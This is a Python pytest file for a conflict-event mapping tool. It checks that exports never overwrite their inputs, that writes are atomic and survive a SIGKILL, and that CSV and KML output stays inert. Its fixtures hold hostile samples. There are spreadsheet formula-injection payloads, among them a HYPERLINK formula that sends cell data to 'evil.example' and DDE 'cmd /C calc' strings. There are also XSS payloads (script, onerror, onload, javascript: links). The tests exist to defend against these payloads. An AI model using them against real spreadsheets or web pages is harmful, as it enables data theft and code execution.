"""Outputs: never written over an input, atomic, no temp files left, clear errors; safe CSV and KML.

Files are read back with real readers (csv, json, xml.etree, lxml). The kill
test runs the real ``conflictmap geocode`` in its own process and SIGKILLs it
while its temp file exists, several times.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
import yaml

import conflictmap_cli as cli
from conflictmap.exports.kml import kml_document
from conflictmap.output import (
    OutputError,
    atomic_path,
    check_distinct,
    spreadsheet_safe,
    sweep_stale_temps,
    write_table,
)
from conflictmap.pipeline import load_dataset
from dashboard.exports import export

ROOT = Path(__file__).resolve().parent.parent
DOC = "seeds/2017-10-26-memo-deir-ez-zor.txt"
BRIEFING = "briefings/deir-ez-zor-october-2017.yaml"
KML = "{http://www.opengis.net/kml/2.2}"


@pytest.fixture
def work(tmp_path):
    shutil.copytree(ROOT / "seeds", tmp_path / "seeds")
    shutil.copytree(ROOT / "briefings", tmp_path / "briefings")
    shutil.copy(ROOT / "events.yaml", tmp_path / "events.yaml")
    return tmp_path


@pytest.fixture
def run_cli(monkeypatch, capsys):
    from conflictmap_cli.export_command import register

    original = cli._register_app_commands

    def with_export(sub):
        original(sub)
        if "export" not in sub.choices:
            register(sub)

    monkeypatch.setattr(cli, "_register_app_commands", with_export)

    def run(*argv):
        code = cli.main([str(a) for a in argv])
        out, err = capsys.readouterr()
        return code, out, err

    return run


def temps_in(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".cmtmp-" in p.name)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# ------------------------------------------------------------------ no input is ever an output


@pytest.mark.parametrize(
    "target",
    [
        "events.yaml",
        DOC,
        BRIEFING,
        "seeds/../events.yaml",  # another spelling of the same path
        "link-to-events.yaml",  # a symlink
        "hardlink-to-document.txt",  # a hard link: same inode, different name
        "hardlink-to-briefing.yaml",
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "kml", "html"])
def test_export_never_writes_over_a_file_it_reads(work, run_cli, target, fmt):
    (work / "link-to-events.yaml").symlink_to(work / "events.yaml")
    os.link(work / DOC, work / "hardlink-to-document.txt")
    os.link(work / BRIEFING, work / "hardlink-to-briefing.yaml")
    before = snapshot(work)
    code, _, err = run_cli("export", work / "events.yaml", "--format", fmt, "-o", work / target)
    assert code == 1 and "refusing to overwrite" in err and "Traceback" not in err, err
    assert snapshot(work) == before
    assert temps_in(work) == []


def test_export_with_a_briefing_refuses_the_briefing_file(work, run_cli):
    before = snapshot(work)
    briefing = work / BRIEFING
    code, _, err = run_cli("export", work / "events.yaml", "-f", "timelinejs", "--briefing", briefing, "-o", briefing)
    assert code == 1 and "refusing to overwrite" in err
    assert snapshot(work) == before


@pytest.mark.parametrize("target", ["events.yaml", DOC, BRIEFING])
def test_geocode_never_writes_over_a_file_it_reads(work, run_cli, target):
    before = snapshot(work)
    code, _, err = run_cli("geocode", work / "events.yaml", "-o", work / "out.csv", "--report", work / target)
    assert code == 1 and "refusing to overwrite" in err, err
    assert snapshot(work) == before  # refused before anything was written, out.csv included
    alias = work / "alias.csv"  # a .csv name the geocoder accepts, for the same inode as the input
    os.link(work / target, alias)
    before = snapshot(work)
    code, _, err = run_cli("geocode", work / "events.yaml", "-o", alias)
    assert code == 1 and "refusing to overwrite" in err, err
    assert snapshot(work) == before


def test_geocode_report_and_output_must_differ(work, run_cli):
    out = work / "out.csv"
    out.write_text("previous\n")
    os.link(out, work / "same-inode.csv")
    for report in (out, work / "same-inode.csv", work / "seeds" / ".." / "out.csv"):
        code, _, err = run_cli("geocode", work / "events.yaml", "-o", out, "--report", report)
        assert code == 1 and "give each output its own file name" in err, err
        assert out.read_text() == "previous\n"


def test_geocode_online_cache_is_never_an_output(work, run_cli, monkeypatch):
    cache = work / "cache.csv"  # any name: the cache is a file this command reads
    cache.write_bytes(b"")
    code, _, err = run_cli("geocode", work / "events.yaml", "--online", "--cache", cache, "-o", cache)
    assert code == 1 and "refusing to overwrite" in err
    assert cache.read_bytes() == b""


def test_output_folders_are_created(work, run_cli):
    out = work / "new" / "deeper" / "events.geojson"
    code, _, err = run_cli("geocode", work / "events.yaml", "-o", out, "--report", work / "r" / "report.csv")
    assert code == 0, err
    assert json.loads(out.read_text())["type"] == "FeatureCollection"
    assert (work / "r" / "report.csv").exists()
    code, _, err = run_cli("export", work / "events.yaml", "-f", "kml", "-o", work / "k" / "m" / "x.kml")
    assert code == 0, err
    ET.parse(work / "k" / "m" / "x.kml")


@pytest.mark.parametrize(
    "target,message",
    [
        ("seeds", "is a folder; give a file name to write"),
        ("x" * 300 + ".csv", "file name too long"),
        (f"{DOC}/below.csv", "a file of that name is in the way"),
        ("/dev/null", "is not a regular file"),
        ("/proc/out.csv", "files cannot be created there"),
        ("/sys/out.csv", "permission denied"),
    ],
)
def test_one_clear_error_for_a_place_that_cannot_be_written(work, run_cli, target, message):
    out = work / target if not target.startswith("/") else Path(target)
    before = snapshot(work)
    code, _, err = run_cli("export", work / "events.yaml", "-f", "csv", "-o", out)
    assert code == 1 and message in err and "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1
    assert snapshot(work) == before


def test_unwritable_folder(work, monkeypatch):
    folder = work / "ro"
    folder.mkdir()
    if os.geteuid() == 0:  # root writes anywhere: make mkstemp meet the kernel's EACCES
        import tempfile

        def denied(*a, **k):
            raise PermissionError(13, "Permission denied")

        monkeypatch.setattr(tempfile, "mkstemp", denied)
    else:
        folder.chmod(0o500)
    with pytest.raises(OutputError, match="permission denied"):
        write_table(pd.DataFrame({"a": [1]}), folder / "x.csv")


# ------------------------------------------------------------------ atomic writes


def test_failure_inside_the_write_leaves_the_old_file_and_no_temp(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("old")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("writer failed")
    assert target.read_text() == "old" and temps_in(tmp_path) == []
    with pytest.raises(OutputError, match="no space left"), atomic_path(target) as tmp:
        raise OSError(28, "No space left on device")
    assert target.read_text() == "old" and temps_in(tmp_path) == []


def test_write_is_fsynced_before_the_rename_and_the_folder_after(tmp_path, monkeypatch):
    import conflictmap.output as output

    calls = []
    real_fsync, real_replace = os.fsync, os.replace
    monkeypatch.setattr(output.os, "fsync", lambda fd: (calls.append(("fsync", os.fstat(fd).st_mode)), real_fsync(fd)))
    monkeypatch.setattr(output.os, "replace", lambda a, b: (calls.append(("replace", None)), real_replace(a, b)))
    with atomic_path(tmp_path / "out.txt") as tmp:
        tmp.write_text("new")
    kinds = [(c, None if m is None else ("dir" if os.path.stat.S_ISDIR(m) else "file")) for c, m in calls]
    assert kinds == [("fsync", "file"), ("replace", None), ("fsync", "dir")]


def test_existing_permissions_are_kept(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("old")
    target.chmod(0o640)
    with atomic_path(target) as tmp:
        tmp.write_text("new")
    assert target.stat().st_mode & 0o777 == 0o640 and target.read_text() == "new"


def test_stale_temps_of_dead_writers_are_swept_live_ones_kept(tmp_path):
    from conflictmap.output import _HOST_TAG

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead_pid = int(dead.stdout)
    stale = tmp_path / f".out.csv.cmtmp-{_HOST_TAG}-{dead_pid}-abcd1234.tmp"
    staged = tmp_path / f".movie.mp4.cmtmp-{_HOST_TAG}-{dead_pid}-efgh5678.mp4"  # a writer's own staging file
    live = tmp_path / f".out.csv.cmtmp-{_HOST_TAG}-{os.getppid()}-ijkl9012.tmp"
    other_host = tmp_path / f".out.csv.cmtmp-000000-{dead_pid}-mnop3456.tmp"
    user_file = tmp_path / ".out.csv.tmp"  # not ours
    for p in (stale, staged, live, other_host, user_file):
        p.write_text("x")
    with atomic_path(tmp_path / "out.csv") as tmp:
        tmp.write_text("a\n")
    assert not stale.exists() and not staged.exists()
    assert live.exists() and other_host.exists() and user_file.exists()
    assert sweep_stale_temps(tmp_path) == []


def _big_events_file(folder: Path, copies: int = 25) -> Path:
    """The bundled events repeated under new ids with long descriptions: a multi-megabyte output."""
    data = yaml.safe_load((ROOT / "events.yaml").read_text(encoding="utf-8"))
    events = []
    for k in range(copies):
        for event in data["events"]:
            events.append(
                {**event, "id": f"{event['id']}-{k}", "description": event["description"] + " padding" * 1500}
            )
    data["events"] = events
    path = folder / "events.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def _geocode(events: Path, out: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "conflictmap_cli", "geocode", str(events), "-o", str(out)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )


def test_sigkill_mid_write_keeps_the_previous_output_and_leaves_no_temp_files(tmp_path):
    shutil.copytree(ROOT / "seeds", tmp_path / "seeds")
    events = _big_events_file(tmp_path)
    out_dir = tmp_path / "out"
    out = out_dir / "events.geojson"
    first = _geocode(events, out)
    assert first.wait(timeout=300) == 0, first.stderr.read()
    first.stderr.close()
    previous = out.read_bytes()
    assert len(previous) > 2_000_000 and json.loads(previous)["type"] == "FeatureCollection"

    kills, attempts = 0, 0
    while kills < 5 and attempts < 15:
        attempts += 1
        proc = _geocode(events, out)
        caught = False
        while proc.poll() is None:
            if temps_in(out_dir):  # the writer is between creating its temp file and renaming it
                proc.send_signal(signal.SIGKILL)
                caught = True
                break
            time.sleep(0.0005)
        proc.wait(timeout=300)
        proc.stderr.close()
        if caught and proc.returncode == -signal.SIGKILL:
            kills += 1
            assert out.read_bytes() == previous  # intact, byte for byte
            assert len(temps_in(out_dir)) <= 1  # the previous killed run's temp was swept by this run
    print(f"{kills} SIGKILLs mid-write in {attempts} runs")
    assert kills >= 3

    last = _geocode(events, out)
    assert last.wait(timeout=300) == 0, last.stderr.read()
    last.stderr.close()
    assert temps_in(out_dir) == []
    assert len(json.loads(out.read_bytes())["features"]) == len(json.loads(previous)["features"])


def test_check_distinct_names_both():
    with pytest.raises(OutputError, match="give each output its own file name"):
        check_distinct(Path("a.csv"), None, Path("./a.csv"))
    check_distinct(Path("a.csv"), Path("b.csv"), None)


# ------------------------------------------------------------------ CSV: no cell starts a formula

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "description": "+cmd|' /C calc'!A0",
    "date_basis": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "place_note": "\t=1+1",
    "dest_note": "\r=1+1",
}


@pytest.fixture(scope="module")
def hostile_dataset():
    """The bundled dataset with hostile text in free-text fields of the first two events."""
    dataset = load_dataset(ROOT / "events.yaml")
    events = dataset.events.copy()
    first, second = events.index[:2]
    for col, value in HOSTILE.items():
        events[col] = events[col].astype(object)
        events.at[first, col] = value
    events.at[second, "title"] = '<img src=x onerror="alert(1)"> & <b>bold</b> $[date_basis]'
    events.at[second, "description"] = "Deir\x00ez-Zor\x1b[31m \x0b\x0c\ud800 <script>alert(2)</script>\nnext line"
    events.at[second, "date_basis"] = "<a href='javascript:alert(3)'>link</a>"
    factions = dataset.factions.copy()
    factions["name"] = factions["name"].astype(object)
    factions.iloc[0, factions.columns.get_loc("name")] = "<svg onload=alert(4)>Faction"
    from conflictmap.table import Dataset

    return Dataset(
        dataset.title + " <i>x</i>",
        events,
        dataset.actors,
        dataset.sources,
        factions,
        dataset.documents,
        dataset.file,
        dataset.report,
    )


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert spreadsheet_safe(cell) == cell, f"cell starts a formula: {cell!r}"


def test_csv_export_cells_never_start_a_formula(hostile_dataset, tmp_path):
    out = tmp_path / "x.csv"
    export(hostile_dataset, "csv", out)
    rows = cells(out)
    assert_no_formula(rows)
    header, data = rows[0], rows[1:]
    first = next(dict(zip(header, row)) for row in data if row[0] == hostile_dataset.events.index[0])
    for col, value in HOSTILE.items():
        assert first[col] == "'" + value  # kept whole, only made inert
    lon = [r[header.index("map_lon")] for r in data if r[header.index("map_lon")]]
    assert all(float(v) for v in lon)  # numbers stay numbers


def test_geocode_csv_cells_never_start_a_formula(hostile_dataset, tmp_path):
    out = tmp_path / "g.csv"
    write_table(hostile_dataset.events.drop(columns=["search_text"]), out)
    rows = cells(out)
    assert_no_formula(rows)
    assert "'=HYPERLINK" in {c[:11] for r in rows for c in r}


@pytest.mark.parametrize(
    "value,safe",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+963", "+963"),
        ("-1e5", "-1e5"),
        ("-", "'-"),
        ("plain", "plain"),
        ("", ""),
        (None, None),
        (-3.5, -3.5),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


# ------------------------------------------------------------------ KML: data is text, the XML parses


def _html_elements(fragment: str) -> list[str]:
    """Tags a browser would build from ``fragment`` (lxml's HTML parser, else the stdlib's)."""
    try:
        import lxml.html

        root = lxml.html.fragment_fromstring(fragment, create_parent="div")
        return [el.tag for el in root.iter() if el is not root]
    except ImportError:  # pragma: no cover
        from html.parser import HTMLParser

        tags = []

        class P(HTMLParser):
            def handle_starttag(self, tag, attrs):
                tags.append(tag)

        P().feed(fragment)
        return tags


def test_kml_descriptions_are_text_in_any_balloon(hostile_dataset, tmp_path):
    out = tmp_path / "x.kml"
    export(hostile_dataset, "kml", out)
    raw = out.read_bytes()
    root = ET.fromstring(raw)  # parses despite NUL, ESC and a lone surrogate in the data
    try:
        import lxml.etree

        lxml.etree.fromstring(raw)  # a strict second opinion
    except ImportError:  # pragma: no cover
        pass
    descriptions = [el.text or "" for el in root.iter(f"{KML}description")]
    assert descriptions
    for text in descriptions:
        assert set(_html_elements(text)) <= {"br"}, text  # only our own line breaks are markup
        assert "$[" not in text
    names = [el.text or "" for el in root.iter(f"{KML}name")]
    for name in names:
        assert "<" not in name and ">" not in name and "$[" not in name
    second = hostile_dataset.events.index[1]
    pm = next(p for p in root.iter(f"{KML}Placemark") if p.get("id") == second)
    desc = pm.findtext(f"{KML}description")
    # The hostile text is all there, as text a balloon shows literally.
    import html as html_mod

    shown = html_mod.unescape(desc.replace("<br>", ""))
    assert "<script>alert(2)</script>" in shown and "Deir\ufffdez-Zor" in shown
    assert "<a href='javascript:alert(3)'>link</a>" in shown
    everything = html_mod.unescape(" ".join(descriptions).replace("<br>", ""))
    assert "<svg onload=alert(4)>Faction" in everything
    balloons = {s.findtext(f"{KML}BalloonStyle/{KML}text") for s in root.iter(f"{KML}Style")}
    assert balloons == {"<h3>$[name]</h3>$[description]"}
    assert all(p.findtext(f"{KML}styleUrl") for p in root.iter(f"{KML}Placemark"))


def test_kml_document_builder_is_safe_without_writing(hostile_dataset):
    tree = kml_document(hostile_dataset, hostile_dataset.events)
    ET.fromstring(ET.tostring(tree.getroot()))


def test_geocode_geojson_is_one_point_per_placed_row_whatever_the_chunk(tmp_path):
    """``geocode -o x.geojson``: the one GeoJSON writer, streamed; rows with no finite place are left out."""
    from conflictmap.output import geojson_points, plain, table_geojson_records, write_feature_collection

    table = load_dataset(ROOT / "events.yaml").events.drop(columns=["search_text"]).reset_index(drop=True)
    table.loc[0, "map_lat"] = float("inf")  # not a place: no feature
    table.loc[1, "map_lon"] = None
    out = tmp_path / "g.geojson"
    assert write_table(table, out) == "geojson"
    doc = json.loads(out.read_text(encoding="utf-8"), parse_constant=lambda c: pytest.fail(f"constant {c}"))
    assert doc["type"] == "FeatureCollection"
    placed = table.iloc[2:][table.iloc[2:]["map_lat"].notna() & table.iloc[2:]["map_lon"].notna()]
    assert [f["id"] for f in doc["features"]] == list(placed["id"]) and len(placed) > 3
    for feature, (_, row) in zip(doc["features"], placed.iterrows()):
        assert feature["geometry"] == {
            "type": "Point",
            "coordinates": [round(float(row["map_lon"]), 6), round(float(row["map_lat"]), 6)],
        }
        assert feature["properties"] == json.loads(json.dumps({k: plain(v) for k, v in row.items()}))
    small_chunks = tmp_path / "chunked.geojson"
    write_feature_collection(small_chunks, geojson_points(table, table_geojson_records(table, chunk=3)))
    assert small_chunks.read_bytes() == out.read_bytes()
